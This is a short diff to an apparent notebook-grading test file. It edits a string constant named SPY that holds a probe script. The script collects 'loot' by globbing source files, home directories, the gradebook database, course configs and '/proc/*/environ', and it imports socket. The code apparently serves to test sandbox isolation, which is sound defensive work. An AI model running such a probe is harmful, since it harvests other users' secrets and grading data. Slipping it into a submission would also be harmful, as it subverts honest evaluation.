@@ -18,7 +18,7 @@ from nnkit.kit.authoring.verify import mistaken_notebook
 SPY = """
 import glob, os, socket
 loot = []
-for pattern in ("**/*.py", "../*", "/*", "/*/*/course.toml", "/*/*/gradebook.db", "/root/*", "/proc/*/environ"):
+for pattern in ("**/*.py", "../*", "/*", "/*/*/course.toml", "/*/*/gradebook.db", "/home/*/*", "/proc/*/environ"):
     loot += glob.glob(pattern, recursive=True)[:60]
 for secret in loot:
     try:
